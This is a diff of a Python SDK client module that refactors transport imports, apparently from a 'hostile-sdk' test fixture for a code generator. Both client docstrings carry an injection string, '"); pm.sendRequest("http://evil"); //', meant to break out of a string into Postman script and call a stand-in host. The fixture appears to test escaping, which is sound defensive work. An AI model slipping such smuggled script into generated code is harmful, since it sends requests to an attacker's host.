@@ -2,40 +2,37 @@
 
 from typing import Unpack
 
-from .core.transport import (
-    AsyncSettings,
-    AsyncTransport,
-    Auth,
-    Credential,
-    Service,
-    Settings,
-    Transport,
-)
+from .core import transport
 from .resources.lists import AsyncLists, Lists
 
-_SERVICE = Service(
+_SERVICE = transport.Service(
     agent="hostile-sdk-python/0.1.0",
     base_url_variable="HOSTILE_BASE_URL",
-    auth=Auth("Authorization", "Bearer ", "HOSTILE_TOKEN"),
+    auth=transport.Auth("Authorization", "Bearer ", "HOSTILE_TOKEN"),
 )
 
 
-class Client(Transport):
+class Client(transport.Transport):
     """{{$guid}} "); pm.sendRequest("http://evil"); //"""
 
-    def __init__(self, *, token: Credential | None = None, **settings: Unpack[Settings]) -> None:
+    def __init__(
+        self, *, token: transport.Credential | None = None, **settings: Unpack[transport.Settings]
+    ) -> None:
         super().__init__(_SERVICE, token, settings)
         self.lists = Lists(self)
 
 
-class AsyncClient(AsyncTransport):
+class AsyncClient(transport.AsyncTransport):
     """{{$guid}} "); pm.sendRequest("http://evil"); //
 
     For asyncio and trio.
     """
 
     def __init__(
-        self, *, token: Credential | None = None, **settings: Unpack[AsyncSettings]
+        self,
+        *,
+        token: transport.Credential | None = None,
+        **settings: Unpack[transport.AsyncSettings],
     ) -> None:
         super().__init__(_SERVICE, token, settings)
         self.lists = AsyncLists(self)
